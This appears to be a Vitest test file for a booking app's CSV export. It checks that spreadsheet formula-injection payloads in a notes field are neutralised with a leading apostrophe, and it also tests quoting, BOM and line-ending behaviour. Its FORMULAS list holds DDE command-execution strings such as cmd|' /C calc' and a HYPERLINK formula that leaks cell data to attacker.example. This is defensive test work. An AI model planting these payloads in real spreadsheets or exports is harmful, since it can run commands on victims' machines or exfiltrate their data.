import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../test/parse-csv.js';
import { toCsv } from './csv.js';
import type { ExportRow } from './export-rows.js';

const row = (notes: string): ExportRow => ({
  date: '2027-03-29',
  start: '09:00',
  end: '09:30',
  status: 'scheduled',
  client: 'Zoé Müller',
  email: 'zoe@example.com',
  notes,
  cancelReason: '',
  bookedAt: '2027-03-01 10:00',
});

/** The notes cell of a one-row export, read back as a spreadsheet would split it. */
const notesCell = (notes: string) => parseCsv(toCsv([row(notes)]).replace(/^\uFEFF/, ''))[1]![6];

// From OWASP's CSV Injection page and its references, plus variants that hide the formula
// behind blanks, quotes, line breaks or full-width signs.
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  '=HYPERLINK("http://attacker.example/?leak="&A1&A2,"Error: please click for further information")',
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=1+2";=1+2',
  '=1+2\'" ;,=1+2',
  '=DDE("cmd";"/C calc";"!A0")A0',
  "-2+3+cmd|' /C calc'!A0",
  "\n-3+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\tplain after a tab',
  '   =1+1',
  '"=1+1"',
  "'=1+1",
  ' " \' @SUM(A1)',
  '\u3000=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
];

describe('toCsv', () => {
  it.each(FORMULAS)('defuses %j with a leading apostrophe and keeps the text', (payload) => {
    expect(notesCell(payload)).toBe(`'${payload}`);
  });

  it('leaves ordinary text alone', () => {
    for (const text of ['Budget review', 'Zoé "Z" Müller', '2027-03-29', 'a-b = c', 'Call +352 621 123 456', 'mail me @ home', '']) {
      expect(notesCell(text)).toBe(text);
    }
  });

  it('quotes cells that hold a comma, a semicolon, a quote or a line break', () => {
    const csv = toCsv([row('a;b')]);
    expect(csv).toContain(',"a;b",');
    expect(toCsv([row('a,b')])).toContain(',"a,b",');
    expect(toCsv([row('say "hi"')])).toContain(',"say ""hi""",');
    expect(toCsv([row('one\r\ntwo')])).toContain(',"one\r\ntwo",');
    expect(notesCell('one;two,three')).toBe('one;two,three');
  });

  it('starts with a byte-order mark and ends every row with CRLF', () => {
    const csv = toCsv([row('x')]);
    expect(csv.startsWith('\uFEFFDate,Start,End,')).toBe(true);
    expect(csv.split('\r\n')).toHaveLength(3);
  });
});
